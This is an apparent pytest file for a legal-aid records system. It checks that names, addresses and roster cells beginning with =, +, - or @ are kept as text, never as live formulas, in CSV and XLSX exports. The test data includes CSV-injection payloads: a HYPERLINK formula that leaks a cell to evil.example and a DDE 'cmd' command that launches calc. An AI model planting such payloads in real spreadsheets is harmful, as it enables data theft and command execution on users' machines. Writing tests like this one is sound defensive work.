"""Formula injection: a name, a matter or a topic that starts like a formula (``=``, ``+``, ``-``, ``@``)
is text in every file the project writes — the import files (CSV and XLSX), the reports' workbook and the
posted roster — and comes back from an import exactly as it was.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from bad_input import examples
from builders import make_reports_center
from factories import dump, write_file
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import select

from legalaid.config import Settings
from legalaid.importing import import_file, write_csv, write_xlsx
from legalaid.models import Firm
from legalaid.reports import ReportRequest, render_report, statistical_year
from legalaid.roster.document import RosterSheet, write_sheet
from legalaid.runtime import Runtime

INJECTIONS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")',
    "=cmd|' /C calc'!A0",
    "+86 571 8800 1234",
    "-2+3",
    "@SUM(1,2)",
    " =1+1",
    "'=already marked",
    "''=twice",
    "'plain apostrophe",
]
# Text a spreadsheet could take for a formula, with anything after it (but what the importer would strip
# or refuse: whitespace around a value, control characters).
formula_like = (
    st.builds(
        lambda start, rest: start + rest,
        st.sampled_from(["=", "+", "-", "@", "'=", "''+", "'"]),
        st.text(st.characters(blacklist_categories=("Cc", "Cs", "Cn", "Zl", "Zp")), max_size=20),
    )
    .map(str.strip)
    .filter(bool)
)


def _formula_cells(workbook_bytes: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(workbook_bytes))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.mark.parametrize("fmt", ["utf-8", "gb18030", "xlsx"])
def test_an_import_file_keeps_formulas_as_text_and_imports_them_back(
    rt: Runtime, tmp_path: Path, fmt: str
) -> None:
    firms = [
        {"code": f"G{n}", "name": text, "kind": "law_firm", "address": text}
        for n, text in enumerate(INJECTIONS)
    ]
    headers = ["code", "name", "kind", "address"]
    path = write_file(tmp_path, "firms", firms, fmt=fmt, headers=headers)
    if fmt == "xlsx":
        assert _formula_cells(path.read_bytes()) == []
    else:
        with path.open(encoding=fmt, newline="") as handle:
            names = [row[1] for row in csv.reader(handle)][1:]
        # What a spreadsheet opens: every formula-like text marked as text with an apostrophe.
        assert all(
            name.startswith("'") for name in names if name.lstrip("'").lstrip().startswith(tuple("=+-@"))
        )
    import_file(rt, "firms", path)
    got = {row["code"]: row["name"] for row in dump(rt, "firms")}
    assert got == {firm["code"]: firm["name"].strip() for firm in firms}


@examples(60)
@given(texts=st.lists(formula_like, min_size=1, max_size=4), as_xlsx=st.booleans())
def test_any_formula_like_text_round_trips(
    rt: Runtime, tmp_path: Path, texts: list[str], as_xlsx: bool
) -> None:
    rows = [{"code": f"P{n}", "name": text, "role": "staff"} for n, text in enumerate(texts)]
    path = tmp_path / ("people.xlsx" if as_xlsx else "people.csv")
    (write_xlsx if as_xlsx else write_csv)(path, ["code", "name", "role"], rows)
    if as_xlsx:
        assert _formula_cells(path.read_bytes()) == []
    import_file(rt, "people", path)
    got = {row["code"]: row["name"] for row in dump(rt, "people")}
    assert {row["code"]: got[row["code"]] for row in rows} == {row["code"]: row["name"] for row in rows}


def test_the_reports_workbook_has_no_formula(rt: Runtime) -> None:
    hostile = '=HYPERLINK("http://evil.example/","年报")'
    with rt.transaction() as session:
        make_reports_center(session)
        firm = session.scalars(select(Firm).where(Firm.code == "F1")).one()
        firm.name = hostile  # a firm's report is titled with the firm's name
    request = ReportRequest("firm", statistical_year(2012, start_month=1), "F1")
    with rt.transaction() as session:
        rendered = render_report(session, rt.settings, request, as_of=date(2013, 1, 15))
    assert hostile in rendered.content.title
    assert _formula_cells(rendered.xlsx) == []
    workbook = load_workbook(io.BytesIO(rendered.xlsx))
    texts = [cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert any(isinstance(text, str) and hostile in text for text in texts)


def test_the_posted_roster_has_no_formula(settings: Settings, tmp_path: Path) -> None:
    rows = [["2012-10-08", "周一", "全天", "09:00-17:00", text, "=FIRM()"] for text in INJECTIONS]
    sheet = RosterSheet(
        month=date(2012, 10, 1),
        title="=TITLE()",
        headers=["日期", "星期", "班次", "时间", "值班人员", "=所属机构"],
        rows=rows,
    )
    docx_path, xlsx_path = write_sheet(sheet, settings, tmp_path)
    assert docx_path.exists()
    assert _formula_cells(xlsx_path.read_bytes()) == []
    workbook = load_workbook(xlsx_path)
    values = [[cell.value for cell in row] for row in workbook.worksheets[0].iter_rows()]
    # The title row (issue 12: the sheet has one) above the headers and the rows, all as written.
    assert values[0][0] == "=TITLE()"
    assert values[1:] == [sheet.headers, *rows]
